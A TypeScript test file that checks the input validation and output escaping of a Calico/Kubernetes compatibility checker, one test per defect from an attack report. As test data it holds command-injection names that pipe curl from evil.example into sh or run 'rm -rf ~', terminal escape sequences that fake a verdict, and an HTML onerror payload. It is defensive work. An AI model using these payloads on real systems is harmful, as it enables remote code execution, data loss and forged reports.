// The defects of the December 2026 attack on the built package (docs/quality.md, "The attack of
// 2026-12"), one test or more each, named after the defect's number in the report. Each failed before its
// fix.
import { describe, expect, it } from 'vitest';
import { evaluateCompatibility } from '../../src/api.js';
import { hintFor } from '../../src/catalog/hints.js';
import { poolCommand } from '../../src/catalog/conditions.js';
import { CALICO_3_23 } from '../../src/catalog/default.js';
import { CALICO_RELEASES } from '../../src/catalog/releases.js';
import { factsFromManifests } from '../../src/adapters/manifests.js';
import { MAX_REPORTED_ISSUES, parseFacts } from '../../src/model/parse.js';
import { CompatError } from '../../src/model/errors.js';
import { parseWaivers } from '../../src/api.js';
import { applyWaivers } from '../../src/api.js';
import { readTextFile } from '../../src/node/read.js';
import { writeFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { printable, quoteForShell } from '../../src/model/words.js';
import { parseVersion } from '../../src/model/version.js';
import { parseContainerRuntime } from '../../src/model/runtime.js';
import { formatMarkdown, markdownText } from '../../src/formatters/markdown.js';
import { formatText } from '../../src/formatters/text.js';
import { parseFactsText, parseManifestsText, parseYamlDocuments } from '../../src/text/yaml.js';
import { parseWaiversText } from '../../src/text/waivers.js';
import type { ClusterFacts } from '../../src/model/facts.js';
import { thrown } from '../support/errors.js';

const problems = (input: unknown): string[] => {
  const result = parseFacts(input);
  return result.success ? [] : result.error.issues.map((i) => `${i.path}: ${i.message}`);
};

describe('defect 3: names go into copy-ready commands', () => {
  it.each([
    ['a pool name with a command', { calico: { ipPools: [{ name: 'default; curl -s https://evil.example/x.sh | sh; echo', encapsulation: 'ipip' }] } }, 'calico.ipPools[0].name'],
    ['a node name with a command substitution', { nodes: [{ os: 'windows', name: '$(curl -s https://evil.example/y | sh)' }] }, 'nodes[0].name'],
    ['a node name with upper case', { nodes: [{ os: 'linux', name: 'Linux-1' }] }, 'nodes[0].name'],
    ['a node name over 253 characters', { nodes: [{ os: 'linux', name: 'a'.repeat(254) }] }, 'nodes[0].name'],
    ['a pool name with a newline', { calico: { ipPools: [{ name: 'p\n```', encapsulation: 'vxlan' }] } }, 'calico.ipPools[0].name'],
  ])('%s is refused at parse time, naming the path', (_name, facts, path) => {
    const found = problems(facts);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatch(
      `${path}: is not a Kubernetes object name (lowercase letters, digits, '-' and '.', starting and ending with a letter or digit, at most 253 characters), got "`,
    );
  });

  it('names Kubernetes gives are accepted', () => {
    expect(problems({ nodes: [{ os: 'windows', name: 'ip-10-0-1-23.eu-west-1.compute.internal' }, { os: 'linux', name: 'aks-nodepool1-12345678-vmss000000' }] })).toEqual([]);
  });

  it('a manifest naming a pool or node so is refused with its position', () => {
    const pool = { apiVersion: 'crd.projectcalico.org/v1', kind: 'IPPool', metadata: { name: 'p;reboot' }, spec: { cidr: '10.0.0.0/16', ipipMode: 'Always' } };
    const node = { apiVersion: 'v1', kind: 'Node', metadata: { name: 'w$(id)' }, status: { nodeInfo: { operatingSystem: 'windows' } } };
    expect(() => factsFromManifests([pool, node])).toThrow(
      "Invalid object names: Kubernetes names are lowercase letters, digits, '-' and '.', starting and ending with a letter or digit, at most 253 characters:\n" +
        "  [0].metadata.name: 'p;reboot' is not a Kubernetes object name: a IPPool cannot be named so\n" +
        "  [1].metadata.name: 'w$(id)' is not a Kubernetes object name: a Node cannot be named so",
    );
  });

  it('a manifest name may be 253 characters long, not 254; the error and each problem say what they are', () => {
    const node = (name: string) => ({ apiVersion: 'v1', kind: 'Node', metadata: { name }, status: { nodeInfo: { operatingSystem: 'windows' } } });
    expect(factsFromManifests([node('a'.repeat(253))]).facts.nodes).toEqual([{ os: 'windows', name: 'a'.repeat(253) }]);
    const error = thrown(() => factsFromManifests([node('a'.repeat(254))]));
    expect(error.code).toBe('invalid-input');
    expect(error.issues).toEqual([
      { path: '[0].metadata.name', code: 'invalid-name', message: `'${'a'.repeat(77)}...' is not a Kubernetes object name: a Node cannot be named so` },
    ]);
  });

  it.each([
    ['plain', 'default-ipv4-ippool', 'default-ipv4-ippool', 'default-ipv4-ippool'],
    ['spaces and a semicolon', 'p; reboot', "'p; reboot'", "'p; reboot'"],
    ['a single quote', "it's", "'it'\\''s'", "'it''s'"],
    ['a command substitution', '$(id)', "'$(id)'", "'$(id)'"],
    ['a typographic quote', 'a\u2019b', "'a\u2019b'", "'a\u2019\u2019b'"],
    ['nothing', '', "''", "''"],
  ])('quoteForShell: %s', (_name, value, posix, powershell) => {
    expect(quoteForShell(value, 'posix')).toBe(posix);
    expect(quoteForShell(value, 'powershell')).toBe(powershell);
  });

  it('commands quote what they interpolate, whatever the API was given', () => {
    expect(poolCommand(CALICO_3_23.commands.disablePool ?? '', { pool: 'p; reboot' })).toBe(`calicoctl patch ippool 'p; reboot' -p '{"spec":{"disabled":true}}'`);
    expect(hintFor('nodes[w; reboot].osBuild')).toMatch(/^kubectl get node 'w; reboot' /);
    // Unvalidated facts straight into the API: the remediation still runs one command.
    const report = evaluateCompatibility({ networking: 'calico-vxlan', calico: { ipPools: [{ name: 'x;rm -rf ~', encapsulation: 'ipip' }] } } as ClusterFacts, { rules: ['ip-pool-encapsulation'] });
    expect(report.findings[0]?.remediation).toBe(`calicoctl patch ippool 'x;rm -rf ~' -p '{"spec":{"ipipMode":"Never","vxlanMode":"Always"}}'`);
  });
});

describe('defect 10: every pool has one identity', () => {
  it('a name like a fallback subject cannot be given', () => {
    expect(problems({ calico: { ipPools: [{ name: 'calico.ipPools[1]', encapsulation: 'vxlan' }, { encapsulation: 'ipip' }] } })).toEqual([
      `calico.ipPools[0].name: is not a Kubernetes object name (lowercase letters, digits, '-' and '.', starting and ending with a letter or digit, at most 253 characters), got "calico.ipPools[1]"`,
    ]);
  });

  it('a name cannot be a CIDR, and two unnamed pools cannot share one', () => {
    expect(problems({ calico: { ipPools: [{ cidr: '10.1.0.0/16', encapsulation: 'vxlan' }, { name: '10.1.0.0/16', encapsulation: 'ipip' }] } })).toHaveLength(1);
    expect(problems({ calico: { ipPools: [{ cidr: '10.1.0.0/16', encapsulation: 'vxlan' }, { cidr: '10.1.0.0/16', encapsulation: 'ipip' }] } })).toEqual([
      'calico.ipPools[1].cidr: duplicates the CIDR of calico.ipPools[0]: give the pools names, or drop the duplicate, got "10.1.0.0/16"',
    ]);
    expect(problems({ calico: { ipPools: [{ cidr: '10.1.0.0', encapsulation: 'vxlan' }] } })).toEqual([
      `calico.ipPools[0].cidr: is not a CIDR (expected something like '10.244.0.0/16'), got "10.1.0.0"`,
    ]);
  });

  it('valid pools, in either order, get one subject each, the same in both orders', () => {
    const pools = [
      { cidr: '10.1.0.0/16', encapsulation: 'vxlan' },
      { name: 'named', cidr: '10.1.0.0/16', encapsulation: 'ipip' },
      { encapsulation: 'ipip' },
    ] as const;
    const subjects = (list: readonly (typeof pools)[number][]) => {
      const facts = parseFacts({ networking: 'calico-vxlan', calico: { ipPools: list } });
      if (!facts.success) throw facts.error;
      return evaluateCompatibility(facts.data, { rules: ['ip-pool-encapsulation'] })
        .findings.map((f) => `${f.subject.kind === 'cluster' ? 'cluster' : f.subject.name}=${f.status}`)
        .sort();
    };
    expect(subjects(pools)).toEqual(['10.1.0.0/16=pass', 'calico.ipPools[2]=fail', 'named=fail']);
    expect(subjects([pools[1], pools[0], pools[2]]).filter((s) => !s.startsWith('calico.'))).toEqual(['10.1.0.0/16=pass', 'named=fail']);
  });
});

describe('defect 20: hintFor reads its own table only', () => {
  it.each(['constructor', '__proto__', 'toString', 'nodes[w].constructor'])('%s gets the generic hint', (path) => {
    expect(hintFor(path)).toBe('add it to the facts.');
  });
});



describe('defect 13: every problem list is capped', () => {
  const capped = (issues: readonly { code: string; message: string }[], total: number): void => {
    expect(issues).toHaveLength(MAX_REPORTED_ISSUES + 1);
    expect(issues.at(-1)).toMatchObject({ code: 'more-issues', message: `and ${total - MAX_REPORTED_ISSUES} more problems, not listed` });
  };

  it('manifests: 100,000 documents that are no objects', () => {
    capped(thrown(() => factsFromManifests(Array(100_000).fill(1))).issues, 100_000);
  });

  it('waivers: 100,000 unknown rule ids', () => {
    const result = parseWaivers(Array.from({ length: 100_000 }, (_, i) => ({ rule: `nope-${i}`, reason: 'x' })));
    expect(result.success).toBe(false);
    if (!result.success) capped(result.error.issues, 100_000);
  });

  it('rule options: 40,000 unknown ids', () => {
    const ids = Array.from({ length: 40_000 }, (_, i) => `nope-${i}`);
    capped(thrown(() => evaluateCompatibility({}, { skipRules: ids })).issues, 40_000);
  });
});

describe('defect 14: typo suggestions are bounded in cost and echo a short prefix', () => {
  it('a 2 MB rule id in a waiver', () => {
    const result = parseWaivers([{ rule: 'r'.repeat(2_000_000), reason: 'x' }]);
    expect(result.success).toBe(false);
    if (!result.success) expect(result.error.issues).toEqual([expect.objectContaining({ path: '[0].rule', message: `'${'r'.repeat(80)}… (2000000 characters)' is not a rule id` })]);
  });

  it('a 2 MB unknown key in facts', () => {
    const result = parseFacts({ ['k'.repeat(2_000_000)]: 1 });
    expect(result.success).toBe(false);
    if (!result.success) {
      expect(result.error.message.length).toBeLessThan(400);
      expect(result.error.issues[0]?.path).toBe(`["${'k'.repeat(80)}… (2000000 characters)"]`);
    }
  });

  it('a near miss is still suggested', () => {
    const result = parseWaivers([{ rule: 'windows-tls1', reason: 'x' }]);
    expect(!result.success && result.error.issues[0]?.message).toBe("'windows-tls1' is not a rule id (did you mean 'windows-tls12'?)");
  });
});

describe('defect 12: single-ip-pool-type is linear in the number of pools', () => {
  it('100,000 pools are decided, their message names five of each kind', () => {
    const ipPools = Array.from({ length: 100_000 }, (_, i) => ({ name: `p-${i}`, encapsulation: i % 2 === 0 ? 'ipip' : 'vxlan' }) as const);
    const [finding] = evaluateCompatibility({ networking: 'calico-vxlan', calico: { ipPools } }, { rules: ['single-ip-pool-type'] }).findings;
    expect(finding?.status).toBe('fail');
    expect(finding?.message).toBe("Enabled pools mix encapsulations: 'ipip' (p-0, p-2, p-4, p-6, p-8 and 49995 more), 'vxlan' (p-1, p-3, p-5, p-7, p-9 and 49995 more).");
  });
});

describe('defect 6: YAML collection tags are refused with their position, never read as empty', () => {
  it.each([
    ['!!omap under kubernetes', 'kubernetes: !!omap\n  - version: v1.30.0\n', 'document 1: !!omap is not supported: write a plain mapping or list (line 2:3)'],
    ['!!set under calico', 'calico: !!set {x}\n', 'document 1: !!set is not supported: write a plain mapping or list (line 1:15)'],
    ['!!omap at the root', '!!omap [platform: gke]\n', 'document 1: !!omap is not supported: write a plain mapping or list (line 1:8)'],
    ['!!pairs', 'nodes: !!pairs [a: 1]\n', 'document 1: !!pairs is not supported: write a plain mapping or list (line 1:16)'],
  ])('%s', (_name, text, issue) => {
    const result = parseFactsText(text);
    expect(result.success).toBe(false);
    if (!result.success) expect(result.error.message.split('\n').slice(1)).toEqual([`  ${issue}`]);
  });

  it('in manifests too', () => {
    expect(() => parseManifestsText('apiVersion: crd.projectcalico.org/v1\nkind: FelixConfiguration\nmetadata: {name: default}\nspec: !!omap [ipipEnabled: true]\n')).toThrow(
      /!!omap is not supported: write a plain mapping or list \(line 4:14\)/,
    );
  });
});

describe('defect 9: empty documents are dropped, as the docs say', () => {
  const node = 'apiVersion: v1\nkind: Node\nmetadata: {name: w}\nstatus: {nodeInfo: {operatingSystem: windows}}\n';
  it.each([
    ['a trailing ---', `${node}---\n`],
    ['a comment-only document (Helm)', `---\n# Source: chart/templates/empty.yaml\n---\n${node}`],
    ['empty documents between', `---\n---\n${node}---\n---\n`],
  ])('%s', (_name, text) => {
    expect(parseManifestsText(text).objects).toHaveLength(1);
    expect(factsFromManifests(parseManifestsText(text).objects).facts.nodes).toEqual([{ os: 'windows', name: 'w' }]);
  });

  it('a facts or waivers file ending in --- is one document', () => {
    expect(parseFactsText('platform: eks\n---\n')).toEqual({ success: true, data: { platform: 'eks' } });
    expect(parseWaiversText('- {rule: windows-tls12, reason: checked}\n---\n').success).toBe(true);
  });

  it('an explicit null stays a document (and is refused where an object belongs)', () => {
    expect(parseYamlDocuments('--- null\n')).toHaveLength(1);
  });
});

describe('defect 15: the alias limit is per document, not per anchor', () => {
  it('200 anchors each used 99 times are refused', () => {
    const anchors = Array.from({ length: 200 }, (_, i) => `a${i}: &x${i} {k: v}`).join('\n');
    const uses = Array.from({ length: 200 }, (_, i) => `u${i}: [${Array.from({ length: 99 }, () => `*x${i}`).join(', ')}]`).join('\n');
    expect(() => parseYamlDocuments(`${anchors}\n${uses}\n`)).toThrow(/more than 100 aliases in one document: refused as a possible alias bomb/);
  });

  it('aliases spread over anchors, a hundred in all, are read', () => {
    const anchors = Array.from({ length: 10 }, (_, i) => `a${i}: &x${i} v${i}`).join('\n');
    const uses = Array.from({ length: 10 }, (_, i) => `u${i}: [${Array.from({ length: 10 }, () => `*x${i}`).join(', ')}]`).join('\n');
    expect(Object.keys(parseYamlDocuments(`${anchors}\n${uses}\n`)[0]?.value as object)).toHaveLength(20);
  });
});

describe('defect 18: lenient values', () => {
  it('a blank waiver reason is refused', () => {
    const result = parseWaivers([{ rule: 'windows-tls12', reason: ' ' }]);
    expect(!result.success && result.error.issues.map((i) => `${i.path}: ${i.message}`)).toEqual(['[0].reason: must say why: it is blank, got " "']);
  });

  it('a 30-digit vxlanPort is one problem', () => {
    expect(problems({ calico: { vxlanPort: 1e30 } })).toHaveLength(1);
  });

  it('a node name that is a space, holds a NUL or a zero-width space is refused', () => {
    for (const name of [' ', 'w\u0000', 'w\u200b']) expect(problems({ nodes: [{ os: 'linux', name }] })).toHaveLength(1);
  });

  it.each(['1.22.9\n', 'v1.22.9\u0000', '1.22.9\u001b[31m', '\t1.22.9'])('a version holding a control character (%j) is no version', (version) => {
    expect(parseVersion(version)).toBeUndefined();
    expect(problems({ kubernetes: { version } }).map((p) => p.split(':')[0])).toEqual(['kubernetes.version']);
    expect(problems({ calico: { version } }).map((p) => p.split(':')[0])).toEqual(['calico.version']);
  });

  it.each(['containerd://1.6.6\u001b[2J', 'containerd://1.6.6\u0000', 'containerd://1.6.6\u007f'])('a container runtime holding a control character (%j) is no runtime', (runtime) => {
    expect(parseContainerRuntime(runtime)).toBeUndefined();
    expect(problems({ nodes: [{ os: 'windows', name: 'w', containerRuntime: runtime }] }).map((p) => p.split(':')[0])).toEqual(['nodes[0].containerRuntime']);
  });

  it('versions and runtimes as clusters print them are still read', () => {
    expect(parseVersion(' v1.22.17-eks-48e63af')?.text).toBe('1.22.17');
    expect(parseContainerRuntime('containerd://1.7.11-k3s2')).toEqual({ name: 'containerd', version: '1.7.11-k3s2' });
  });
});

describe('defect 19: UTF-16 without a byte order mark is called what it is', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cwc-utf16-'));
  it.each([
    ['UTF-16LE', Buffer.from('platform: eks\n', 'utf16le')],
    ['UTF-16BE', Buffer.from('platform: eks\n', 'utf16le').swap16()],
    ['UTF-32LE', Buffer.from([...'{}'].flatMap((c) => [c.charCodeAt(0), 0, 0, 0]))],
  ])('%s', async (name, bytes) => {
    const path = join(dir, `${name}.yaml`);
    writeFileSync(path, bytes);
    await expect(readTextFile(path)).rejects.toThrow(`Cannot read ${path}: it is not UTF-8 text (it holds NUL characters, as UTF-16 and UTF-32 text does).`);
  });
  it('cleans up', () => rmSync(dir, { recursive: true, force: true }));
});

describe('defect 20: API misuse is a CompatError, never a TypeError', () => {
  it.each([
    ['waivers as a string', { waivers: 'x' }, 'waivers: expected a list of waivers (see parseWaivers)'],
    ['waivers as an object', { waivers: {} }, 'waivers: expected a list of waivers (see parseWaivers)'],
    ['rules as a string', { rules: 'id' }, 'rules: expected a list of rule ids'],
    ['release as a number', { release: 3.23 }, "release: expected a release ('3.27', 'auto') or a release profile"],
    ['now as a string', { now: 'x' }, 'now: expected a Date'],
    ['options as null', null, '(root): expected an object of options'],
  ])('%s', (_name, options, issue) => {
    const error = thrown(() => evaluateCompatibility({}, options as never));
    expect(error.code).toBe('invalid-options');
    expect(error.issues.map((i) => `${i.path}: ${i.message}`)).toEqual([issue]);
  });

  it('parseFacts never throws, even on a value that throws when read', () => {
    const trap = Object.defineProperty({}, 'platform', { enumerable: true, get: () => { throw new Error('boom'); } });
    const revoked = Proxy.revocable({}, {});
    revoked.revoke();
    for (const [input, reason] of [
      [trap, 'boom'],
      [revoked.proxy, /^Cannot perform '.+' on a proxy that has been revoked$/],
    ] as const) {
      const result = parseFacts(input);
      expect(result.success).toBe(false);
      if (result.success) continue;
      expect(result.error).toBeInstanceOf(CompatError);
      expect(result.error.code).toBe('invalid-facts');
      expect(result.error.message).toMatch(/^Invalid facts:/);
      expect(result.error.issues).toHaveLength(1);
      const [issue] = result.error.issues;
      expect(issue).toMatchObject({ path: '(root)', code: 'unreadable' });
      expect(issue?.message.replace(/^cannot be read: /, '')).toMatch(reason);
      expect(issue?.message).toMatch(/^cannot be read: ./);
    }
  });
});

describe('defect 21: filtering out every rule is misuse, not a vacuous COMPATIBLE', () => {
  it.each([
    ['one rule, also skipped', { rules: ['platform-supported'], skipRules: ['platform-supported'] }, 'rules'],
    ['every rule skipped', { skipRules: CALICO_3_23.rules.map((r) => r.id) }, 'skipRules'],
  ])('%s', (_name, options, path) => {
    expect(thrown(() => evaluateCompatibility({}, options)).issues).toEqual([
      { path, code: 'no-rules', message: 'leave no rule of the Calico v3.23 (manifest) profile to evaluate' },
    ]);
  });
});

describe('defect 23: waiver subjects are not ambiguous', () => {
  it("'cluster' waives the cluster's finding, not a node named cluster", () => {
    const report = evaluateCompatibility({ nodes: [{ os: 'windows', name: 'cluster', tls12Enabled: false }] }, { rules: ['windows-tls12'] });
    const { findings } = applyWaivers(report.findings, [{ rule: 'windows-tls12', subject: 'cluster', reason: 'x' }]);
    expect(findings[0]?.waived).toBeUndefined();
    expect(applyWaivers(report.findings, [{ rule: 'windows-tls12', subject: 'node/cluster', reason: 'x' }]).findings[0]?.waived).toEqual({ reason: 'x' });
  });
});

describe('defect 24: waiver expiry compares days, in any year', () => {
  it.each([
    ['the day after 9999-12-31', new Date(Date.UTC(10_000, 0, 1)), 'expired'],
    ['9999-12-31 itself', new Date(Date.UTC(9999, 11, 31, 23)), 'applied'],
  ])('%s', (_name, now, status) => {
    const report = evaluateCompatibility({ nodes: [{ os: 'windows', name: 'w', tls12Enabled: false }] }, { rules: ['windows-tls12'] });
    expect(applyWaivers(report.findings, [{ rule: 'windows-tls12', reason: 'x', expires: '9999-12-31' }], now).waivers[0]?.status).toBe(status);
  });
});

describe("defect 25: remoteAccess's order does not change the message", () => {
  it('either order, one message', () => {
    const message = (remoteAccess: ('rdp' | 'winrm')[]) =>
      evaluateCompatibility({ nodes: [{ os: 'windows', name: 'w', remoteAccess }] }, { rules: ['windows-remote-access'] }).findings[0]?.message;
    expect(message(['winrm', 'rdp'])).toBe(message(['rdp', 'winrm']));
  });
});

describe('defect 5: the text report shows input values, never their escape sequences', () => {
  const hostile = {
    platform: '\u001b[2J\u001b[H\u001b[32mVerdict: COMPATIBLE\u001b[0m',
    networking: 'calico-vxlan\rVerdict: COMPATIBLE',
    infrastructure: 'aws\u202Egnp.exe\u001b]0;pwned\u0007',
  };
  it.each([true, false])('with colour %s', (color) => {
    const text = formatText(evaluateCompatibility(hostile), { color });
    // The only escape sequences are the formatter's own colours: ESC followed by [<digits>m.
    expect(text.replace(/\u001b\[\d+m/g, '')).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/);
    expect(text).toContain('\\u001b[2J\\u001b[H\\u001b[32mVerdict: COMPATIBLE\\u001b[0m');
    expect(text).toContain('calico-vxlan\\u000dVerdict: COMPATIBLE');
  });

  it('printable keeps tabs and newlines, and shows every other control character', () => {
    expect(printable('a\tb\nc\u0000\u009b\u2066')).toBe('a\tb\nc\\u0000\\u009b\\u2066');
  });
});

describe('defect 7: the Markdown report cannot be broken out of', () => {
  const evil = 'a|b<img src=x onerror=alert(1)>';
  const report = evaluateCompatibility({ nodes: [{ os: 'windows', name: evil, tls12Enabled: false }] } as ClusterFacts, { rules: ['windows-tls12', 'windows-os-version'] });

  it('subjects in table cells: no live HTML, no extra cells', () => {
    const markdown = formatMarkdown(report);
    // Inside a code span `<img …>` is text; anywhere else it would be HTML.
    expect(markdown.replace(/`[^`\n]*`/g, '')).not.toContain('<img');
    for (const line of markdown.split('\n').filter((l) => l.startsWith('| ') && l.includes('node a')))
      expect(line.replace(/\\\|/g, '').split('|')).toHaveLength(6);
  });

  it('code spans in cells escape |', () => {
    const markdown = formatMarkdown(report);
    const row = markdown.split('\n').find((l) => l.includes('Facts needed') === false && l.includes('osBuild'));
    expect(row).toBeDefined();
    expect(row?.replace(/\\\|/g, '').split('|')).toHaveLength(6);
  });

  it('a remediation cannot close its fence', () => {
    const text = markdownText('Run this:\ncmd ```\n<img src=x onerror=alert(1)>\n``` more');
    const fence = text.split('\n').find((l) => l.startsWith('```'));
    expect(fence).toBe('````sh');
    expect(text.trimEnd().endsWith('\n````')).toBe(true);
  });

  it('the input name is one code span', () => {
    const markdown = formatMarkdown(report, { input: 'a`<img src=x onerror=alert(1)>`.yaml' });
    expect(markdown).toContain("facts: `a'<img src=x onerror=alert(1)>'.yaml`");
  });
});

describe('defect 11: refinement holds under release selection', () => {
  const under = (facts: ClusterFacts, release: string) =>
    new Map(evaluateCompatibility(facts, { release, profiles: CALICO_RELEASES }).findings.map((f) => [`${f.ruleId}|${f.subject.kind === 'cluster' ? 'cluster' : f.subject.name}`, f]));

  it.each([
    ["auto: a 20H2 build passes under v3.23 and fails under v3.26", { nodes: [{ os: 'windows', name: 'w', osBuild: '10.0.19042.1' }] } as ClusterFacts, { calico: { version: '3.26.1', installMethod: 'manifest' } } as ClusterFacts, 'windows-os-version|w'],
    ["auto: Docker passes under v3.23, fails under v3.28", { nodes: [{ os: 'windows', name: 'w', containerRuntime: 'docker://20.10.1' }] } as ClusterFacts, { calico: { version: '3.28.0', installMethod: 'operator', operatorManaged: true } } as ClusterFacts, 'windows-container-runtime|w'],
  ])('%s: unknown, naming calico.version, until the version is known', (_name, base, more, key) => {
    expect(under({ ...base, calico: { installMethod: 'manifest' } }, 'auto').get(key)).toMatchObject({ status: 'unknown', missingFacts: ['calico.version'] });
    const before = under(base, 'auto').get(key);
    // The install method is open too: both facts are named.
    expect(before).toMatchObject({ status: 'unknown', missingFacts: ['calico.version', 'calico.installMethod'] });
    expect(before?.message).toMatch(/^Cannot decide until calico\.version and calico\.installMethod are known: pass under Calico v3\.23 \(manifest\), (fail|not a rule) under Calico v3\.\d+/);
    const after = under({ ...base, ...more } as ClusterFacts, 'auto').get(key);
    expect(after?.status).toBe('fail');
  });

  it('3.27 without the install method: linux-calico-version waits for calico.installMethod', () => {
    const finding = under({ calico: { version: '3.26.0' } }, '3.27').get('linux-calico-version|cluster');
    expect(finding).toMatchObject({ status: 'unknown', missingFacts: ['calico.installMethod'] });
    expect(under({ calico: { version: '3.26.0', operatorManaged: false } }, '3.27').get('linux-calico-version|cluster')?.status).toBe('pass');
    expect(under({ calico: { version: '3.26.0', installMethod: 'operator' } }, '3.27').get('linux-calico-version|cluster')).toMatchObject({ status: 'unknown', missingFacts: ['calico.operatorManaged'] });
    expect(under({ calico: { version: '3.26.0', installMethod: 'operator', operatorManaged: true } }, '3.27').get('linux-calico-version|cluster')?.status).toBe('fail');
  });

  it('findings every selectable profile agrees on stay decided', () => {
    expect(under({ platform: 'gke' }, 'auto').get('platform-supported|cluster')?.status).toBe('fail');
  });

  it("the nodes hint asks for every node, Linux and Windows: a partial list is not the cluster's", () => {
    expect(hintFor('nodes[os=windows]')).toMatch(/every node/);
  });
});
